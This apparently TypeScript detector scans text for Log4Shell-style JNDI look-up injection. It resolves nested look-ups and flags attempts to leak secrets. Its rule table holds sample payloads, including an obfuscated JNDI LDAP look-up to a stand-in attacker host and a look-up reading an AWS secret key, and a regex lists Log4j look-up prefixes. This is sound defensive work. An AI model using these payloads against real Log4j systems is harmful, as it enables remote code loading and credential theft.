import { K } from './keywords.ts'
import { sign, type Look } from './look.ts'
import { rulesOf } from './rules.ts'
import { P } from './scan.ts'

const rule = rulesOf('jndi', {
  lookup: [1, 5, 'a JNDI look-up, however it is nested', '${${lower:j}ndi:ldap://evil.example/a}', 'the jndi api'],
  leak: [1, 5, 'a look-up of Log4j that reads the environment', '${env:AWS_SECRET_ACCESS_KEY}', '${environment}'],
  nested: [1, 5, 'nested look-ups that hide a word', '${${::-j}${::-n}x}', '${a}${b}']
})

export function mayBeLookup (look: Look): boolean {
  return ((look.pairs & P.DOLLAR_BRACE) !== 0 || look.text.includes('$&')) && ((look.words & K.LOOKUP) !== 0 || look.text.includes(':-') || look.text.includes('::'))
}

const LEAK = /^(?:(?:env|sys|java|ctx|main|bundle|docker|k8s|kubernetes|spring|web|sd|map|marker|date|event|log4j|hostname|lower|upper|base64|script|dns|url|const|resourceBundle|urlDecoder|urlEncoder|base64(?:De|En)coder|localhost):[^\s/]|(?:xml|properties|file):[^\s:]{1,200}:|:+-\w?$)/i

/** Resolves look-ups from the inside out, as Log4j does, with one stack and one pass. */
export function jndi (look: Look): void {
  const { text } = look
  const open: number[] = []
  const parts: string[] = ['']
  let hidden = 0
  for (let at = text.indexOf('$'); at < text.length && at >= 0; at++) {
    const code = text.charCodeAt(at)
    if (code === 36 && text.charCodeAt(at + 1) === 123) {
      if (open.length >= 24) break
      open.push(at)
      parts.push('')
      at++
    } else if (code === 125 && open.length > 0) {
      const from = open.pop()!
      const content = parts.pop()!
      if (/^\s*jndi\s*:/i.test(content)) {
        sign(look, rule.lookup, from, at)
        return
      }
      const fallback = content.lastIndexOf(':-')
      const value = fallback >= 0 ? content.slice(fallback + 2) : content.slice(content.indexOf(':') + 1)
      if (open.length > 0 && content.includes(':')) hidden++
      if (open.length === 0 && LEAK.test(content) && look.count < 40) sign(look, rule.leak, from, at)
      parts[parts.length - 1] = (parts[parts.length - 1]! + value).slice(-200)
    } else if (open.length > 0) {
      const last = parts.length - 1
      if (parts[last]!.length < 200) parts[last] += text[at]!
    } else if (code === 123 && parts[0]!.endsWith('$')) {
      open.push(at)
      parts.push('')
    } else {
      const next = text.indexOf('$', at + 1)
      if (code !== 123 && code !== 36 && !parts[0]!.endsWith('$')) {
        if (next < 0) break
        at = next - 1
      }
    }
  }
  for (const part of parts) if (/^\s*jndi\s*:\s*(?:ldap|rmi|dns|iiop|nis|nds|corba|http)/i.test(part)) sign(look, rule.lookup, 0, text.length)
  if (hidden > 1) sign(look, rule.nested, 0, text.length)
}
